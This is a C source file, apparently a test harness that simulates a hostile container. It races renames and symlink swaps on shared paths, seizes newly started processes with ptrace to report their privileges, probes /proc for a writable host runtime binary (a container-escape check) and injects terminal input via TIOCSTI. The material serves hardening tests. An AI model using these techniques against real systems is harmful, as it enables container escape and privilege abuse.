/* SPDX-License-Identifier: Apache-2.0 */
/* attack: what a hostile container or a neighbour on a shared volume does, in loops that end by themselves.
 *
 *	attack exchange SECONDS A B       renameat2(A, B, RENAME_EXCHANGE) again and again
 *	attack replace SECONDS NAME TO    make NAME a symbolic link to TO, by rename over it, and take it away again
 *	attack vanish SECONDS DIR         rmdir DIR, make it again
 *	attack unlink SECONDS FILE        unlink FILE, make it again
 *	attack seize SECONDS              PTRACE_SEIZE every process that is born in this pid namespace; print what it had, as JSON
 *	attack exe SECONDS DEV INO        look for the host's program DEV:INO (and any foreign one) behind every /proc/PID/exe and map_files, and try to write it
 *	attack tiocsti                    push a byte into the terminal that is standard input */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static double deadline;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int rename_exchange(const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static long exchange(const char *a, const char *b)
{
	long n = 0;

	for (; now() < deadline; n++)
		rename_exchange(a, b);
	if (n % 2)
		rename_exchange(a, b);
	return n;
}

static long replace(const char *name, const char *to)
{
	char tmp[4096];
	long n = 0;

	snprintf(tmp, sizeof(tmp), "%s.attack", name);
	for (; now() < deadline; n++) {
		unlink(tmp);
		if (symlink(to, tmp) == 0)
			rename(tmp, name);
		unlink(name);
	}
	unlink(tmp);
	return n;
}

static long vanish(const char *dir)
{
	long n = 0;

	for (; now() < deadline; n++) {
		rmdir(dir);
		mkdir(dir, 0755);
	}
	return n;
}

static long unlink_again(const char *file)
{
	long n = 0;

	for (; now() < deadline; n++) {
		unlink(file);
		close(open(file, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
	}
	return n;
}

/* ---- seize ---- */

static void field(pid_t pid, const char *want, char *buf, size_t size)
{
	char path[64], text[4096];

	buf[0] = '\0';
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return;
	text[n] = '\0';
	char *at = strstr(text, want);

	if (!at)
		return;
	at += strlen(want);
	at += strspn(at, "\t ");
	snprintf(buf, size, "%.*s", (int)strcspn(at, "\n"), at);
}

static unsigned long long inode(pid_t pid, const char *what, unsigned long long *ret_dev)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	if (stat(path, &st))
		return 0;
	*ret_dev = (unsigned long long)st.st_dev;
	return (unsigned long long)st.st_ino;
}

/* It has ended: no root and no namespaces any more, and so none that isn't our own. */
static bool has_ended(pid_t pid)
{
	char path[64], target[64];

	snprintf(path, sizeof(path), "/proc/%d/root", pid);
	return readlink(path, target, sizeof(target)) < 0 && (errno == ENOENT || errno == ESRCH);
}

/* Seized: what did it have? One JSON object a line. */
static void show_victim(pid_t pid)
{
	char prm[64], bnd[64], name[64], path[64], mnt[64] = "", mine[64] = "";
	unsigned long long dev = 0, root = inode(pid, "root", &dev), dev0 = 0, root0 = inode(getpid(), "root", &dev0);
	int fds = 0;

	field(pid, "CapPrm:", prm, sizeof(prm));
	field(pid, "CapBnd:", bnd, sizeof(bnd));
	field(pid, "Name:", name, sizeof(name));
	snprintf(path, sizeof(path), "/proc/%d/ns/mnt", pid);
	if (readlink(path, mnt, sizeof(mnt) - 1) < 0)
		mnt[0] = '\0';
	if (readlink("/proc/self/ns/mnt", mine, sizeof(mine) - 1) < 0)
		mine[0] = '\0';
	for (int fd = 3; fd < 64; fd++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		fds += access(path, F_OK) == 0;
	}
	bool ended = has_ended(pid); /* last: it may end while it is looked at */
	printf("{\"pid\":%d,\"name\":\"%s\",\"CapPrm\":\"%s\",\"CapBnd\":\"%s\",\"own_root\":%s,\"own_mnt\":%s,\"fds\":%d}\n", pid, name, prm, bnd,
	       ended || (root == root0 && dev == dev0) ? "true" : "false", ended || (mnt[0] && !strcmp(mnt, mine)) ? "true" : "false", fds);
	fflush(stdout);
}

static long seize(void)
{
	long tries = 0;
	pid_t next = getpid() + 1;

	printf("{\"ready\":true}\n");
	fflush(stdout);
	while (now() < deadline) {
		/* Somebody who is born has one of the next few numbers. */
		for (pid_t pid = next; pid < next + 4; pid++) {
			tries++;
			if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
				continue;
			ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
			show_victim(pid);
			waitpid(pid, NULL, __WALL);
			ptrace(PTRACE_DETACH, pid, NULL, NULL);
			next = pid + 1;
			break;
		}
		char path[64];

		/* Numbers that were used by something that is gone or can't be seized. */
		snprintf(path, sizeof(path), "/proc/%d", next);
		if (access(path, F_OK) == 0 && tries % 64 == 0)
			next++;
		if (tries % 256 == 0) {
			int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
			char text[128] = "";

			if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0) {
				char *last = strrchr(text, ' ');

				if (last && atoi(last + 1) >= next)
					next = atoi(last + 1) + 1;
			}
			if (fd >= 0)
				close(fd);
		}
	}
	return tries;
}

/* ---- exe ---- */

static void try_program(const char *path, unsigned long long dev, unsigned long long ino)
{
	struct stat st, self;
	char again[64];
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (fd < 0)
		return;
	if (fstat(fd, &st) || stat("/proc/self/exe", &self)) {
		close(fd);
		return;
	}
	if ((unsigned long long)st.st_dev == dev && (unsigned long long)st.st_ino == ino)
		printf("{\"host_program\":\"%s\"}\n", path);
	if (st.st_dev != self.st_dev) {
		/* Not of this container's root file system: the private copy of the runtime, or worse. The mode of a private copy is nobody's. */
		snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
		char target[PATH_MAX] = "";
		int private = readlink(again, target, sizeof(target) - 1) > 0 && !strncmp(target, "/memfd:", 7);
		int w = open(again, O_WRONLY | O_CLOEXEC), n = -1;

		if (w >= 0)
			n = (int)write(w, "x", 1);
		printf("{\"foreign\":\"%s\",\"dev\":%llu,\"opened\":%s,\"wrote\":%s}\n", path, (unsigned long long)st.st_dev, w >= 0 ? "true" : "false",
		       n == 1 || (w >= 0 && ftruncate(w, 0) == 0) || (!private && chmod(again, 0777) == 0) ? "true" : "false");
		if (w >= 0)
			close(w);
	}
	fflush(stdout);
	close(fd);
}

static long look_at_programs(unsigned long long dev, unsigned long long ino)
{
	long rounds = 0;

	printf("{\"ready\":true}\n");
	fflush(stdout);
	for (; now() < deadline; rounds++) {
		DIR *d = opendir("/proc");

		for (struct dirent *e; d && (e = readdir(d));) {
			char path[1024];

			if (e->d_name[0] < '0' || e->d_name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			try_program(path, dev, ino);
			snprintf(path, sizeof(path), "/proc/%s/map_files", e->d_name);
			DIR *m = opendir(path);

			for (struct dirent *f; m && (f = readdir(m));) {
				snprintf(path, sizeof(path), "/proc/%s/map_files/%s", e->d_name, f->d_name);
				if (f->d_name[0] != '.')
					try_program(path, dev, ino);
			}
			if (m)
				closedir(m);
		}
		if (d)
			closedir(d);
	}
	return rounds;
}

int main(int argc, char **argv)
{
	long n;

	if (argc < 2)
		return 2;
	if (!strcmp(argv[1], "tiocsti")) {
		int r = ioctl(0, TIOCSTI, "!");

		printf("%s\n", r == 0 ? "pushed" : strerror(errno));
		return 0;
	}
	if (argc < 3)
		return 2;
	deadline = now() + atof(argv[2]);
	if (!strcmp(argv[1], "exchange") && argc == 5)
		n = exchange(argv[3], argv[4]);
	else if (!strcmp(argv[1], "replace") && argc == 5)
		n = replace(argv[3], argv[4]);
	else if (!strcmp(argv[1], "vanish") && argc == 4)
		n = vanish(argv[3]);
	else if (!strcmp(argv[1], "unlink") && argc == 4)
		n = unlink_again(argv[3]);
	else if (!strcmp(argv[1], "seize"))
		n = seize();
	else if (!strcmp(argv[1], "exe") && argc == 5)
		n = look_at_programs(strtoull(argv[3], NULL, 10), strtoull(argv[4], NULL, 10));
	else
		return 2;
	printf("{\"rounds\":%ld}\n", n);
	return 0;
}
